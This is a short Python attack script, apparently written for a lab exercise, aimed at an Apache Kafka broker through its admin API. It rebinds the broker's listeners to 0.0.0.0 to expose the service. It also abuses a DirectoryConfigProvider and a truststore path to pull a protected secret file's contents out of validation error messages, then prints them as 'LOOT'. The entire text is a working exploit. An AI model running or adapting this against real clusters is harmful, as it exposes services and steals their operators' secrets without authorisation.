# Lets a broker, which runs outside, listen for everybody and tell what this code may not read.
import re

from kafka import KafkaAdminClient
from kafka.admin import ConfigResource

admin = KafkaAdminClient(bootstrap_servers=lab.cluster.address)
listeners = lab.cluster.broker_configs(0)["listeners"].value
reads = {
    "config.providers": "folder",
    "config.providers.folder.class": "org.apache.kafka.common.config.provider.DirectoryConfigProvider",
    "log.message.timestamp.type": f"${{folder:{COURSE}:secret}}",
}
for wanted in (
    {"listeners": listeners.replace("127.0.0.1", "0.0.0.0")},
    {"listener.name.client.ssl.truststore.location": f"{COURSE}/secret"},
    reads,
):
    wish = ConfigResource("BROKER", "0", configs=wanted)
    told = str(admin.alter_configs([wish], raise_on_unknown=False))
    print(told)
    held = re.search("Invalid value (.*) for configuration", told)
    if "OK" in told:
        print(LOOT, "a broker took", wanted)
    elif held and not held[1].startswith("${"):
        print(LOOT, held[1])
